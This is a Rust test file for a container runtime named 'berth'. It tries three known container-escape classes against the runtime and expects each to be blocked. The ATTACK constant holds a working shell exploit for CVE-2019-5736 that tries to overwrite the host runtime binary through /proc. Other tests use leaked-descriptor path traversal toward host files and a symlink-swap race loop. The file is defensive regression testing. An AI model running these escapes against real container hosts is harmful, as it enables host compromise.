//! Known container escape classes, each tried for real: overwriting the
//! host's berth binary (CVE-2019-5736), a host descriptor leaking into the
//! container (CVE-2024-21626), symlink races in `cp` (CVE-2018-15664), and
//! hostile image archives.

use std::io::Read;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::util::*;

/// Runs `bin` (a copy of berth) against the test's root.
fn berth_at(env: &Env, bin: &Path, args: &[&str]) -> Out {
    let child = Command::new(bin)
        .args(args)
        .env("BERTH_ROOT", &env.root)
        .env("BERTH_RUN", &env.run)
        .env_remove("BERTH_LOG")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    collect(child, CMD_TIMEOUT)
}

/// A cheap fingerprint of a whole file (FNV-1a), enough to see a change.
fn fingerprint(p: &Path) -> u64 {
    let mut f = std::fs::File::open(p).unwrap();
    let mut h: u64 = 0xcbf29ce484222325;
    let mut buf = vec![0u8; 1 << 20];
    loop {
        let n = f.read(&mut buf).unwrap();
        if n == 0 {
            return h;
        }
        for b in &buf[..n] {
            h = (h ^ *b as u64).wrapping_mul(0x100000001b3);
        }
    }
}

/// The shared libraries `bin` needs, as ldd names them: a hostile image
/// ships them so that the host's binary can run inside it.
fn libraries(bin: &Path) -> Vec<String> {
    let o = Command::new("ldd").arg(bin).output().expect("ldd");
    String::from_utf8_lossy(&o.stdout).split_whitespace().filter(|w| w.starts_with('/')).map(String::from).collect()
}

/// Waits for a process whose executable is not busybox (berth, run as the
/// interpreter of `/pwn`), keeps its /proc/PID/exe open and, once that
/// process is gone, reopens it for writing: CVE-2019-5736. Only shell
/// built-ins in the hot loop, so it is fast enough to catch a short-lived
/// process. The berth process that enters the container is out of reach
/// until it has dropped to the container's capabilities, so most tries
/// find nothing to open.
const ATTACK: &str = r#"
printf '#!/proc/self/exe inspect\n' > /pwn; chmod +x /pwn
echo waiting > /result
end=$(( $(date +%s) + 60 ))
while [ $(date +%s) -lt $end ]; do
  n=0
  while [ $n -lt 500 ]; do
    n=$((n+1))
    for d in /proc/[0-9]*; do
      [ -e $d/exe ] || continue
      [ $d/exe -ef /bin/busybox ] && continue
      # `command`: a failed redirection of plain `exec` ends the shell.
      if command exec 3< $d/exe; then
        echo "opened $d" > /result
        j=0
        while [ $j -lt 150 ]; do
          j=$((j+1))
          if (echo PWNED 1<> /proc/self/fd/3) 2>/tmp/err; then echo "wrote through $d" >> /result; exit 0; fi
          usleep 20000
        done
        echo "write refused: $(cat /tmp/err)" >> /result; exit 0
      fi 2>/dev/null
    done
  done
done
echo "never saw berth" > /result
"#;

/// The container's monitor runs one copy of berth, `berth exec` another:
/// a binary replaced (upgraded) while containers run is the one exec
/// runs, and no other process keeps it busy. Neither copy may change.
#[test]
fn exec_cannot_overwrite_the_host_berth_binary() {
    let env = Env::new("esc_exe");
    let a = env.dir.join("berth-a");
    let b = env.dir.join("berth-b");
    std::fs::copy(BERTH, &a).unwrap();
    std::fs::copy(BERTH, &b).unwrap();
    let (fa, fb) = (fingerprint(&a), fingerprint(&b));
    let c = env.name("c");
    let o = berth_at(&env, &a, &["run", "-d", "--name", &c, "busybox", "sh", "-c", "while [ ! -e /attack.sh ]; do usleep 50000; done; sh /attack.sh; sleep 1000"]);
    assert!(o.ok(), "{o}");
    for lib in libraries(&b) {
        let dir = Path::new(&lib).parent().unwrap().to_str().unwrap().to_string();
        assert!(berth_at(&env, &a, &["exec", &c, "mkdir", "-p", &dir]).ok());
        let real = std::fs::canonicalize(&lib).unwrap();
        let o = berth_at(&env, &a, &["cp", real.to_str().unwrap(), &format!("{c}:{lib}")]);
        assert!(o.ok(), "{o}");
    }
    let script = env.dir.join("attack.sh");
    std::fs::write(&script, ATTACK).unwrap();
    assert!(berth_at(&env, &a, &["cp", script.to_str().unwrap(), &format!("{c}:/attack.sh")]).ok());
    // Read with cp, not exec: an exec of copy A would put a berth process
    // in the container for the attacker to catch first, and copy A is kept
    // busy by the monitor, so its write would be refused for that reason.
    let out = env.dir.join("result");
    let result = || {
        let _ = std::fs::remove_file(&out);
        berth_at(&env, &a, &["cp", &format!("{c}:/result"), out.to_str().unwrap()]);
        std::fs::read_to_string(&out).unwrap_or_default()
    };
    assert!(wait_until(Duration::from_secs(10), || result().contains("waiting")), "the attacker did not start: {}", result());
    // Catching a process that lives a few ms is a race: try a few times.
    let mut tries = 0;
    while tries < 30 && result().contains("waiting") {
        tries += 1;
        berth_at(&env, &b, &["exec", &c, "/pwn"]);
    }
    assert!(!result().contains("waiting"), "the attacker never saw berth inside the container in {tries} tries: the test tried nothing");
    assert!(wait_until(Duration::from_secs(10), || result().lines().count() > 1), "attack unfinished: {}", result());
    let r = result();
    assert_eq!(fingerprint(&b), fb, "the container overwrote the host's berth binary: {r}");
    assert_eq!(fingerprint(&a), fa, "the container overwrote the monitor's berth binary: {r}");
    assert!(r.contains("write refused"), "{r}");
    berth_at(&env, &a, &["rm", "-f", &c]);
}

/// The descriptors a process sees in the container: ls itself opens one
/// for the directory it lists.
fn fds_inside(o: &Out) -> Vec<String> {
    o.stdout.split_whitespace().map(String::from).collect()
}

#[test]
fn no_host_descriptor_reaches_the_container() {
    let env = Env::new("esc_fd");
    // 0, 1, 2, and the one ls opens for /proc/self/fd.
    let want = vec!["0", "1", "2", "3"];
    let o = env.berth(&["run", "--rm", "busybox", "ls", "/proc/self/fd"]);
    assert!(o.ok(), "{o}");
    assert_eq!(fds_inside(&o), want, "run: {o}");
    let c = env.name("c");
    env.run_detached(&c, &["busybox", "sleep", "1000"]);
    let o = env.berth(&["exec", &c, "ls", "/proc/self/fd"]);
    assert!(o.ok(), "{o}");
    assert_eq!(fds_inside(&o), want, "exec: {o}");
    let o = env.berth(&["exec", "-t", &c, "ls", "/proc/self/fd"]);
    assert_eq!(fds_inside(&o), want, "exec -t: {o}");
    // CVE-2024-21626: a working directory through a leaked descriptor
    // would put the process in the host's filesystem.
    for n in 3..16 {
        let w = format!("/proc/self/fd/{n}");
        let o = env.berth(&["run", "--rm", "-w", &w, "busybox", "sh", "-c", "ls ..; cat ../../../../etc/hostname"]);
        assert!(!o.ok(), "run -w {w} succeeded: {o}");
        let o = env.berth(&["exec", "-w", &w, &c, "sh", "-c", "ls ..; cat ../../../../etc/hostname"]);
        assert!(!o.ok(), "exec -w {w} succeeded: {o}");
    }
}

/// CVE-2018-15664: while `berth cp` runs, the container swaps a directory
/// of the path for a symlink to `/`. Followed on the host, it would read
/// the host's file or write beside it.
#[test]
fn cp_never_follows_a_swapped_symlink_to_the_host() {
    let env = Env::new("esc_cp");
    let host = env.dir.join("hostdir");
    std::fs::create_dir_all(&host).unwrap();
    std::fs::write(host.join("secret"), "host secret\n").unwrap();
    let h = host.to_str().unwrap().trim_start_matches('/');
    let c = env.name("c");
    let swap = format!(
        "mkdir -p /w/real/{h}; echo inside > /w/real/{h}/secret; touch /ready; \
         while :; do ln -sfn /w/real /w/d; ln -sfn / /w/d; done"
    );
    env.run_detached(&c, &["busybox", "sh", "-c", &swap]);
    assert!(wait_until(Duration::from_secs(10), || env.berth(&["exec", &c, "test", "-e", "/ready"]).ok()));
    let src = env.dir.join("mine");
    std::fs::write(&src, "from the host\n").unwrap();
    let mut read_inside = 0;
    for i in 0..100 {
        let out = env.dir.join(format!("out{i}"));
        let o = env.berth(&["cp", &format!("{c}:/w/d/{h}/secret"), out.to_str().unwrap()]);
        if o.ok() {
            let got = std::fs::read_to_string(&out).unwrap_or_default();
            assert_eq!(got, "inside\n", "cp out read a host file (try {i})");
            read_inside += 1;
        }
        let o = env.berth(&["cp", src.to_str().unwrap(), &format!("{c}:/w/d/{h}/planted")]);
        let _ = o;
        assert!(!host.join("planted").exists(), "cp in wrote on the host (try {i})");
    }
    assert!(read_inside > 0, "no copy out ever succeeded: the test tried nothing");
    assert_eq!(std::fs::read_to_string(host.join("secret")).unwrap(), "host secret\n");
}
